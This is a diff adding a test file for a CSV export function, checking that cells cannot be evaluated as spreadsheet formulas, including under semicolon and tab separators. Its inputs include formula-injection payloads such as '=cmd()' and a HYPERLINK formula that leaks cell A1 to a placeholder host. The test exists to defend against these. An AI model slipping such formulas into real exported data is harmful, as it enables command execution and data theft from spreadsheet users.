@@ -1,0 +1,68 @@
+import fc from 'fast-check'
+import { expect, it } from 'vitest'
+import { csvRows } from '@/lib/domain/catalogue-file/csv-rows'
+import { toCsv } from '@/lib/domain/text/csv'
+import { readCsv } from '@/lib/domain/text/read-csv'
+
+it('ends every line and quotes only what needs it', () => {
+  expect(
+    toCsv([
+      ['email', 'lang'],
+      ['"odd, one"@example.com', 'fr'],
+    ]),
+  ).toBe('email,lang\r\n"""odd, one""@example.com",fr\r\n')
+  expect(toCsv([])).toBe('')
+})
+
+it.each(['=cmd()', '+1', '-1', '@sum', '\tx'])('gives a spreadsheet no formula: %o', (text) => {
+  expect(toCsv([[text]]).replaceAll('"', '')).toBe(`'${text}\r\n`)
+})
+
+/** The cells of a text as a spreadsheet of another country cuts it: a quotation mark quotes at a cell's start alone. */
+function cellsOf(text: string, separator: string): string[] {
+  const cell = new RegExp(
+    `(?:"((?:[^"]|"")*)"?([^${separator}\\r\\n]*)|([^${separator}\\r\\n]*))(${separator}|\\r\\n|\\r|\\n|$)`,
+    'y',
+  )
+  const cells: string[] = []
+  for (cell.lastIndex = 0; cell.lastIndex < text.length; ) {
+    const [, quoted, rest = '', plain = ''] = cell.exec(text) ?? []
+    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"') + rest)
+  }
+  return cells
+}
+
+const signs = fc.constantFrom(...',;\t\r\n"\' =+-@＝＋－＠', '\u00a0', 'a', '1', 'HYPERLINK("x")')
+const hostile = fc.array(signs, { maxLength: 12 }).map((parts) => parts.join(''))
+const tables = fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 })
+
+it.each([',', ';', '\t'])('has no formula where cells are separated by %j', (separator) => {
+  fc.assert(
+    fc.property(tables, (rows) => {
+      for (const cell of cellsOf(toCsv(rows), separator)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
+    }),
+    { numRuns: 2000 },
+  )
+})
+
+it('keeps what a French spreadsheet shows of a name that holds a formula plain', () => {
+  const file = toCsv([['26-4821-7730', 'Bob;=HYPERLINK("http://x?"&A1;"open")']])
+  expect(cellsOf(file, ';')[1]).toBe(`'=HYPERLINK(""http://x?""&A1`)
+})
+
+it('is read back as it was, guards taken off', async () => {
+  const rows = tables.map((table) => table.filter((row) => row.some((field) => field !== '')))
+  await fc.assert(
+    fc.asyncProperty(rows, async (table) => {
+      const file = toCsv([['head', 'two'], ...table])
+      expect(
+        readCsv(file)
+          .slice(1)
+          .map(({ fields }) => fields),
+      ).toEqual(table)
+      const read: string[][] = []
+      for await (const { fields } of csvRows([file], ',')) read.push(fields)
+      expect(read.slice(1)).toEqual(table)
+    }),
+  )
+})
